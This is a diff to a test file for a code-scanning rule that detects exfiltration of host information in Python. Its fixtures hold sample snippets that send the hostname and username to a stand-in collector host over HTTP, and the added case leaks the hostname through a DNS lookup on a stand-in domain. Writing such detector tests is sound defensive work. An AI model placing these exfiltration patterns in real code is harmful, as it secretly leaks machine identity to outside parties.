@@ -26,5 +26,11 @@ ruleTest(rule, {
       code: `import socket, getpass, requests\ninfo = {"h": socket.gethostname(), "u": getpass.getuser()}\nrequests.get("https://a8f3.example-collector.net/c", params=info)\n`,
       findings: [{ line: 3, message: /host identity \(socket\.gethostname\)/ }],
     },
+    {
+      name: 'DNS exfiltration of the hostname',
+      file: 'd.py',
+      code: `import socket\nname = socket.gethostname() + ".x.oast-collector.example"\nsocket.gethostbyname(name)\n`,
+      findings: [{ line: 3, confidence: 'high', message: /DNS lookup/ }],
+    },
   ],
 });
